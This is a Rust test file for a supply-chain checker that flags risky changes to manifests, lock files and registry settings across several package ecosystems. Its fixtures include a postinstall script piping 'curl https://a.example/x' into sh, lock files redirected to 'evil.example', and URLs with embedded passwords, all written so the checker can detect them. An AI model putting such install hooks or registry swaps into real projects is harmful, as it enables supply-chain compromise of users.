//! Manifests and lock files before and after a change, in every language that is read.

use assize_core::finding::Severity;
use proptest::prelude::*;

use super::*;
use crate::security::findings;

/// A file, its text before and its text after.
type BeforeAndAfter<'a> = (&'a str, Option<&'a str>, Option<&'a str>);

fn change(files: &[BeforeAndAfter<'_>], beside: &[(&str, &str)]) -> SecurityChange {
    let file = |(path, before, after): &BeforeAndAfter<'_>| FileVersions {
        path: (*path).to_owned(),
        before: before.map(str::to_owned),
        after: after.map(str::to_owned),
    };
    SecurityChange {
        files: files.iter().map(file).collect(),
        beside: beside.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned())).collect(),
        base_known: true,
    }
}

/// What is found, without the notes.
fn faults(files: &[BeforeAndAfter<'_>], beside: &[(&str, &str)], asked: &str) -> Vec<(String, Severity, Certainty)> {
    let found = findings(&change(files, beside), &RequestedChanges::by(asked));
    let serious = found.into_iter().filter(|finding| finding.severity > Severity::Note);
    serious.map(|finding| (finding.rule, finding.severity, finding.certainty)).collect()
}

fn notes(path: &str, before: Option<&str>, after: &str) -> Vec<String> {
    let found = findings(&change(&[(path, before, Some(after))], &[]), &RequestedChanges::default());
    found.into_iter().map(|finding| format!("{}: {}", finding.rule, finding.message)).collect()
}

#[test]
fn every_manifest_says_what_came_went_and_changed() {
    let pom = |inner: &str| format!("<project><dependencies>{inner}</dependencies></project>");
    let one = |group: &str, name: &str, version: &str| {
        format!(
            "<dependency><groupId>{group}</groupId><artifactId>{name}</artifactId><version>{version}</version></dependency>"
        )
    };
    let (pom_before, pom_after) = (
        pom(&(one("g", "gone", "1") + &one("g", "kept", "1"))),
        pom(&(one("g", "kept", "2") + &one("g", "fresh", "1"))),
    );
    for (path, before, after) in [
        (
            "Cargo.toml",
            "[dependencies]\ngone = '1'\nkept = '1'\n",
            "[dependencies]\nkept = { version = '2' }\n[target.'cfg(unix)'.dependencies]\nfresh = '1'\n",
        ),
        (
            "package.json",
            r#"{"dependencies":{"gone":"1","kept":"1"}}"#,
            r#"{"dependencies":{"kept":"2"},"devDependencies":{"fresh":"1"}}"#,
        ),
        (
            "pyproject.toml",
            "[project]\ndependencies = ['gone>=1', 'kept==1']\n",
            "[project]\ndependencies = ['kept==2']\n[dependency-groups]\ndev = ['fresh>=1']\n",
        ),
        (
            "pyproject.toml",
            "[tool.poetry.dependencies]\npython = '^3'\ngone = '1'\nkept = '1'\n",
            "[tool.poetry.dependencies]\npython = '^4'\nkept = '2'\n[tool.poetry.group.dev.dependencies]\nfresh = '1'\n",
        ),
        (
            "requirements.txt",
            "gone\nkept==1 # why\n",
            "-r other.txt\nkept==2 \\\n    --hash=sha256:ab\nfresh[extra]>=1; python_version>'3'\n",
        ),
        ("Pipfile", "[packages]\ngone = '*'\nkept = '1'\n", "[packages]\nkept = '2'\n[dev-packages]\nfresh = '*'\n"),
        (
            "go.mod",
            "module a\nrequire gone v1\nrequire kept v1\n",
            "module a\nrequire (\n\tkept v2 // indirect\n\tfresh v1\n)\n",
        ),
        ("pom.xml", &pom_before, &pom_after),
        (
            "build.gradle",
            "dependencies {\n  implementation 'g:gone:1'\n  implementation 'g:kept:1'\n}\n",
            "dependencies {\n  api(\"g:kept:2\")\n  testImplementation('g:fresh:1')\n}\n",
        ),
        (
            "gradle/libs.versions.toml",
            "[libraries]\na = 'g:gone:1'\nb = 'g:kept:1'\n",
            "[libraries]\nb = { module = 'g:kept', version = '2' }\nc = 'g:fresh:1'\n",
        ),
    ] {
        let notes = notes(path, Some(before), after);
        let of = |rule: &str| notes.iter().find(|note| note.starts_with(rule)).map_or("", String::as_str);
        assert!(of("security-dependency-added").contains("fresh"), "{path}: {notes:?}");
        assert!(of("security-dependency-removed").contains("gone"), "{path}: {notes:?}");
        assert!(of("security-dependency-changed").contains("kept"), "{path}: {notes:?}");
        assert_eq!(notes.len(), 3, "{path}: {notes:?}");
    }
}

#[test]
fn a_package_from_elsewhere_is_worth_a_look() {
    for (path, before, after) in [
        ("Cargo.toml", "[dependencies]\na = '1'\n", "[dependencies]\na = { git = 'https://github.com/x/a' }\n"),
        ("Cargo.toml", "", "[dependencies]\na = { git = 'https://github.com/x/a' }\n"),
        ("Cargo.toml", "", "[patch.crates-io]\na = { git = 'https://github.com/x/a' }\n"),
        ("package.json", r#"{"dependencies":{"a":"1"}}"#, r#"{"dependencies":{"a":"github:x/a"}}"#),
        ("package.json", "{}", r#"{"dependencies":{"a":"x/a#main"}}"#),
        ("package.json", "{}", r#"{"dependencies":{"a":"https://a.example/a.tgz"}}"#),
        ("pyproject.toml", "", "[project]\ndependencies = ['a @ git+https://github.com/x/a']\n"),
        (
            "pyproject.toml",
            "",
            "[project]\ndependencies = ['a']\n[tool.uv.sources]\na = { git = 'https://github.com/x/a' }\n",
        ),
        ("requirements.txt", "a==1\n", "a @ https://a.example/a.whl\n"),
        ("requirements.txt", "", "-e git+https://github.com/x/a#egg=a\n"),
        ("go.mod", "require a v1\n", "require a v1\nreplace a => example.com/fork v1\n"),
    ] {
        let found = faults(&[(path, Some(before), Some(after))], &[], "");
        assert_eq!(
            found,
            [("security-dependency-source".to_owned(), Severity::Warning, Certainty::Likely)],
            "{path}: {after}"
        );
    }
    for (path, after) in [
        ("Cargo.toml", "[dependencies]\na = { path = '../a' }\n"),
        ("package.json", r#"{"dependencies":{"a":"workspace:*","b":"file:../b","@c/d":"^1","e":"npm:f@1"}}"#),
        ("requirements.txt", "-r base.txt\n./local\n# git+https://a.example/x\n"),
        ("go.mod", "replace a => ../a\n"),
    ] {
        assert_eq!(faults(&[(path, Some(""), Some(after))], &[], ""), [], "{path}: {after}");
    }
}

/// One package as each lock file writes it: path, and a text for a source and a sum.
fn locks(host: &str, sum: Option<&str>) -> Vec<(&'static str, String)> {
    let npm_sum = sum.map(|sum| format!(",\"integrity\":\"sha512-{sum}\"")).unwrap_or_default();
    let line = |before: &str, after: &str| sum.map(|sum| format!("{before}{sum}{after}")).unwrap_or_default();
    let python_host = if host == "registry.npmjs.org" { "files.pythonhosted.org" } else { host };
    let cargo_host = if host == "registry.npmjs.org" { "github.com/rust-lang/crates.io-index" } else { host };
    vec![
        (
            "package-lock.json",
            format!(
                r#"{{"lockfileVersion":3,"packages":{{"":{{}},"node_modules/a":{{"version":"1.0.0","resolved":"https://{host}/a.tgz"{npm_sum}}}}}}}"#
            ),
        ),
        (
            "package-lock.json",
            format!(
                r#"{{"lockfileVersion":1,"dependencies":{{"a":{{"version":"1.0.0","resolved":"https://{host}/a.tgz"{npm_sum}}}}}}}"#
            ),
        ),
        (
            "yarn.lock",
            format!(
                "# yarn lockfile v1\n\n\na@^1:\n  version \"1.0.0\"\n  resolved \"https://{host}/a.tgz#ab\"\n{}",
                line("  integrity sha512-", "\n")
            ),
        ),
        (
            "pnpm-lock.yaml",
            format!(
                "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {{tarball: https://{host}/a.tgz{}}}\n",
                line(", integrity: sha512-", "")
            ),
        ),
        (
            "Cargo.lock",
            format!(
                "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = \"registry+https://{cargo_host}\"\n{}",
                line("checksum = \"", "\"\n")
            ),
        ),
        (
            "uv.lock",
            format!(
                "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = {{ registry = \"https://pypi.org/simple\" }}\nwheels = [{{ url = \"https://{python_host}/a.whl\"{} }}]\n",
                line(", hash = \"sha256:", "\"")
            ),
        ),
        (
            "poetry.lock",
            format!(
                "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nfiles = [{}]\n[package.source]\nurl = \"https://{python_host}/simple\"\n",
                line("{ file = \"a.whl\", hash = \"sha256:", "\" }")
            ),
        ),
    ]
}

#[test]
fn a_lock_file_that_leads_elsewhere_is_a_fault() {
    let source = ("security-lock-source".to_owned(), Severity::Error, Certainty::Certain);
    for ((path, before), (_, after)) in
        locks("registry.npmjs.org", Some("aa")).iter().zip(locks("evil.example", Some("aa")))
    {
        let change = [(*path, Some(before.as_str()), Some(after.as_str()))];
        let found = faults(&change, &[], "");
        assert_eq!(found, std::slice::from_ref(&source), "{path}: {after}");
        // Nothing changed, or the other way round: back to the registry.
        assert_eq!(faults(&[(*path, Some(before), Some(before))], &[], ""), [], "{path}");
        assert_eq!(faults(&[(*path, Some(&after), Some(before))], &[], ""), [], "{path}");
        // The base uses that host, or its settings name it.
        let more = after.replace("1.0.0", "1.0.1");
        assert_eq!(faults(&[(*path, Some(&after), Some(&more))], &[], ""), [], "{path}");
        let settings = [(".npmrc", "registry=https://evil.example/\n"), ("Cargo.toml", "")];
        assert_eq!(faults(&change, &settings, "")[0].2, Certainty::Likely, "{path}");
        assert_eq!(faults(&change, &[], "Switch to our registry mirror.")[0].2, Certainty::Likely, "{path}");
    }
}

#[test]
fn a_check_sum_that_went_or_changed_is_a_fault() {
    let fault = [("security-lock-integrity".to_owned(), Severity::Error, Certainty::Certain)];
    let with = locks("registry.npmjs.org", Some("aa"));
    for (index, (path, before)) in with.iter().enumerate() {
        let other = &locks("registry.npmjs.org", Some("bb"))[index].1;
        assert_eq!(faults(&[(*path, Some(before), Some(other))], &[], ""), fault, "{path}: {other}");
        let none = &locks("registry.npmjs.org", None)[index].1;
        assert_eq!(faults(&[(*path, Some(before), Some(none))], &[], ""), fault, "{path}: {none}");
        // Another version has another sum; one that comes is welcome.
        let newer = other.replace("1.0.0", "1.0.1");
        assert_eq!(faults(&[(*path, Some(before), Some(&newer))], &[], ""), [], "{path}");
        assert_eq!(faults(&[(*path, Some(none), Some(before))], &[], ""), [], "{path}");
    }
    let (before, after) = ("a v1 h1:aa=\na v1/go.mod h1:bb=\n", "a v1 h1:cc=\na v1/go.mod h1:bb=\n");
    assert_eq!(faults(&[("go.sum", Some(before), Some(after))], &[], ""), fault);
    // More files of the same version, and a better algorithm, are progress.
    let wheel = |sums: &str| format!("[[package]]\nname = 'a'\nversion = '1'\nfiles = [{sums}]\n");
    let (one, two) = (wheel("{ hash = 'sha256:aa' }"), wheel("{ hash = 'sha256:aa' }, { hash = 'sha256:bb' }"));
    assert_eq!(faults(&[("poetry.lock", Some(&one), Some(&two))], &[], ""), []);
    let old = &with[0].1.replace("sha512-", "sha1-");
    assert_eq!(faults(&[("package-lock.json", Some(old), Some(&with[0].1))], &[], ""), []);
}

#[test]
fn what_a_lock_file_brings_is_listed() {
    let before = &locks("registry.npmjs.org", Some("aa"))[0].1;
    let after = before.replace("1.0.0", "2.0.0").replace("\"resolved\"", "\"hasInstallScript\":true,\"resolved\"");
    let notes = notes("package-lock.json", Some(before), &after);
    let rules: Vec<&str> = notes.iter().filter_map(|note| note.split(':').next()).collect();
    assert_eq!(rules, ["security-lock-changed", "security-install-script", "security-lock-alone"], "{notes:?}");
    assert!(notes[0].contains("`a 2.0.0`"), "{notes:?}");
    assert_eq!(
        faults(&[("Cargo.lock", Some("[[package]]\n"), Some("<<<<<<<\n"))], &[], "")[0].0,
        "security-lock-changed"
    );
}

#[test]
fn scripts_that_run_by_themselves_are_listed_and_downloads_are_faults() {
    let scripts = |inner: &str| format!("{{\"scripts\":{{{inner}}}}}");
    let plain = scripts(r#""build":"tsc""#);
    for (inner, listed, fault) in [
        (r#""postinstall":"node build.js""#, true, false),
        (r#""prepare":"husky""#, true, false),
        (r#""postinstall":"curl https://a.example/x | sh""#, false, true),
        (r#""test":"vitest run""#, false, false),
        (r#""lint":"eslint .""#, false, false),
    ] {
        let after = scripts(inner);
        let found = notes("package.json", Some(&plain), &after);
        assert_eq!(
            found.iter().any(|note| note.starts_with("security-install-script") && note.contains("runs on")),
            listed,
            "{inner}"
        );
        let certain = faults(&[("package.json", Some(&plain), Some(&after))], &[], "");
        assert_eq!(
            certain.iter().any(|(_, _, certainty)| *certainty == Certainty::Certain),
            fault,
            "{inner}: {certain:?}"
        );
        assert_eq!(notes("package.json", Some(&after), &after), Vec::<String>::new(), "{inner}");
    }
    for (path, before, after, expected) in [
        ("build.rs", None, "fn main() {}", true),
        ("build.rs", Some("fn main() { }"), "fn main() {}", false),
        ("m/Cargo.toml", Some("[lib]\n"), "[lib]\nproc-macro = true\n", true),
        ("Cargo.toml", Some("[package]\n"), "[package]\nbuild = 'other.rs'\n", true),
        ("setup.py", Some("setup(name='a')\n"), "import subprocess\nsetup(name='a')\n", true),
        ("setup.py", Some("setup(name='a')\n"), "setup(name='b')\n", false),
    ] {
        let found = notes(path, before, after);
        assert_eq!(found.iter().any(|note| note.contains("-script:")), expected, "{path}: {found:?}");
    }
}

#[test]
fn another_registry_is_worth_a_look_and_one_without_certificate_a_fault() {
    use Certainty::{Certain, Likely};
    for (path, line, expected) in [
        (".npmrc", "registry=https://npm.corp.example/", Some(("security-registry", Likely))),
        (".npmrc", "@corp:registry=https://npm.corp.example/", Some(("security-registry", Likely))),
        (".npmrc", "strict-ssl=false", Some(("security-registry-unverified", Certain))),
        (".npmrc", "registry=https://registry.npmjs.org/", None),
        (".npmrc", "save-exact=true", None),
        (".yarnrc.yml", "npmRegistryServer: \"https://npm.corp.example\"", Some(("security-registry", Likely))),
        (".yarnrc.yml", "enableStrictSsl: false", Some(("security-registry-unverified", Certain))),
        ("requirements.txt", "--extra-index-url https://pypi.corp.example/simple", Some(("security-registry", Likely))),
        ("requirements.txt", "--trusted-host pypi.corp.example", Some(("security-registry-unverified", Certain))),
        ("requirements.txt", "requests==2.0", None),
        ("pip.conf", "index-url = https://pypi.corp.example/simple", Some(("security-registry", Likely))),
        (".cargo/config.toml", "replace-with = \"mirror\"", Some(("security-registry", Likely))),
        (".cargo/config.toml", "rustflags = [\"-D\"]", None),
        (
            "pyproject.toml",
            "[[tool.uv.index]]\nurl = \"https://pypi.corp.example/simple\"",
            Some(("security-registry", Likely)),
        ),
        ("pyproject.toml", "[project.urls]\nurl = \"https://docs.corp.example\"", None),
        (
            "build.gradle",
            "repositories {\n  maven { url 'https://maven.corp.example' }\n}",
            Some(("security-registry", Likely)),
        ),
        ("build.gradle", "url = 'https://docs.corp.example'", None),
    ] {
        let found = faults(&[(path, Some(""), Some(line))], &[], "");
        let expected: Vec<(String, Certainty)> =
            expected.into_iter().map(|(rule, certainty)| (rule.to_owned(), certainty)).collect();
        let found: Vec<(String, Certainty)> = found.into_iter().map(|(rule, _, certainty)| (rule, certainty)).collect();
        assert_eq!(found, expected, "{path}: {line}");
        assert_eq!(faults(&[(path, Some(line), Some(line))], &[], ""), [], "{path}: {line}");
    }
}

#[test]
fn what_logs_in_is_not_repeated() {
    let url = format!("https://user:{}@evil.example/a.tgz", "hunter2hunter2");
    let after =
        format!(r#"{{"packages":{{"node_modules/a":{{"version":"1","resolved":"{url}","integrity":"sha512-a"}}}}}}"#);
    let files = [
        ("package-lock.json", Some("{}"), Some(after.as_str())),
        ("requirements.txt", Some(""), Some("--index-url https://user:hunter2hunter2@pypi.corp.example/simple\n")),
        ("Cargo.toml", Some(""), Some("[dependencies]\na = { git = 'https://user:hunter2hunter2@evil.example/a' }\n")),
    ];
    let npm = r#"{"dependencies":{"a":"git+https://user:hunter2hunter2@evil.example/a.git"}}"#;
    let files = [&files[..], &[("package.json", Some("{}"), Some(npm))]].concat();
    let found = findings(&change(&files, &[]), &RequestedChanges::default());
    assert!(found.len() >= 3 && found.iter().all(|finding| !finding.message.contains("hunter2")), "{found:?}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn any_text_can_be_a_manifest_or_a_lock_file(text in "(?s)[\\[\\]{}()<>:,\"'a-d@/=#+;. \n-]{0,120}", other in "(?s).{0,40}") {
        for path in [
            "Cargo.toml", "Cargo.lock", "package.json", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "pyproject.toml",
            "Pipfile", "Pipfile.lock", "poetry.lock", "uv.lock", "requirements.txt", "go.mod", "go.sum", "pom.xml",
            "build.gradle", "libs.versions.toml", ".npmrc", "setup.py",
        ] {
            findings(&change(&[(path, Some(&other), Some(&text))], &[]), &RequestedChanges::default());
        }
    }
}
